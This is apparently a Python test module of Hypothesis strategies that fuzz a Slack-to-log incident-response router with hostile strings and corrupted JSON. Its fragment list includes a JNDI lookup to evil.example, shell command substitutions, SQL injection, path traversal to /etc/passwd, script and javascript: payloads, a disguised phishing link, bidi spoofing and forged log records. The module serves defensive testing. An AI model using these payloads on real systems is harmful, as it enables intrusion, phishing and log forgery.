"""Hypothesis strategies for hostile texts, and for corrupted copies of a valid JSON value."""

from __future__ import annotations

import copy
from collections.abc import Iterator, Sequence
from typing import Any

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from tests.trials.proof.leaks import CANARY

FORGED = "forged-record-7e1b"
"""The marker in the log record that hostile texts try to inject."""

FRAGMENTS = (
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S0LC0000001|@security>",
    "<@U0LC0000001>",
    "<@U0LC0000001|admin>",
    "<#C0LC0000001|general>",
    "<https://evil.example/login|https://console.aws.amazon.com/>",
    "<mailto:boss@evil.example|boss>",
    "<javascript:alert(1)|x>",
    "<!date^0^{date}^https://evil.example|now>",
    "https://evil.example/?a=1&b=<2>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "<script>alert(1)</script>",
    "<<!channel>>",
    "<",
    ">",
    "&",
    "|",
    "*bold* _italic_ ~struck~ `code`",
    "```",
    "> quoted",
    "\u202egpj.exe",
    "\u202dx\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "\u202ab\u202bc",
    "\u200b\u200d\ufeff",
    "\u2028\u2029\x85",
    "\x00\x07\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\ud800",
    "\udfff\ud83d",
    "\uffff\ufffe\ufdd0",
    "😀👩‍👩‍👧‍👦🇳🇱",
    "שלום مرحبا",
    "e\u0301\u0308\u0327" * 4,
    "\r\n",
    "\n",
    "\t",
    " ",
    f'\n{{"level":"ERROR","location":"x","message":"{FORGED}","service":"ir-router"}}\n',
    f'\r{{"level":"INFO","message":"{FORGED}"}}\r',
    f'", "message": "{FORGED}", "x": "',
    "[Slack Update] Jane Smith",
    "[AWS Security IR Update] approved",
    "(Slack C0LC0000001/1700000000.000100)",
    "(ir-router note)",
    "(This message was deleted in Slack.)",
    "../../../../etc/passwd",
    "..\\..\\x",
    "%s%n%x {0} {} ${jndi:ldap://evil.example/a} {{7*7}} $(id) `id`",
    "' OR 1=1 --",
    "=HYPERLINK(1)",
    "arn:aws:iam::123456789012:user/carol",
    "AKIAIOSFODNN7EXAMPLE",
    CANARY,
)

LONG = ("x" * 5_000, "word " * 1_200, "😀" * 3_000, "&" * 4_000, "<!channel> " * 400, "\n" * 3_000, "`" * 2_000)

characters = st.characters(exclude_categories=[])
"""Every code point, including lone surrogates, which JSON can carry."""

texts: SearchStrategy[str] = st.one_of(
    st.text(characters, max_size=40),
    st.lists(st.sampled_from(FRAGMENTS) | st.text(characters, max_size=8), min_size=1, max_size=6).map("".join),
    st.lists(st.sampled_from(FRAGMENTS) | st.text(characters, max_size=8), min_size=1, max_size=6).map(" ".join),
    st.tuples(st.sampled_from(LONG), st.sampled_from(FRAGMENTS), st.integers(0, 19)).map(
        lambda drawn: drawn[0] + drawn[1] if drawn[2] == 0 else drawn[1] * 2  # one in twenty is long
    ),
)

any_json: SearchStrategy[Any] = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        texts,
        st.sampled_from(["", "0", "-1", "1e309", "null", "[]", "{}"]),
    ),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(characters, max_size=8), inner, max_size=3),
    max_leaves=6,
)


@st.composite
def corrupted(draw: st.DrawFn, templates: Sequence[Any]) -> Any:
    """Return one of these JSON values with one to four of its parts replaced, removed or made hostile."""
    value = copy.deepcopy(templates[draw(st.integers(0, len(templates) - 1))])
    for _ in range(draw(st.integers(1, 4))):
        places = list(_places(value))
        if not places:
            break
        container, key = draw(st.sampled_from(places))
        how = draw(st.sampled_from(("any_json", "text", "removed")))
        if how == "removed":
            del container[key]
        else:
            container[key] = draw(any_json if how == "any_json" else texts)
    return value


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Yield every place in a JSON value as its container and key."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, member in inner:
        yield value, key
        yield from _places(member)
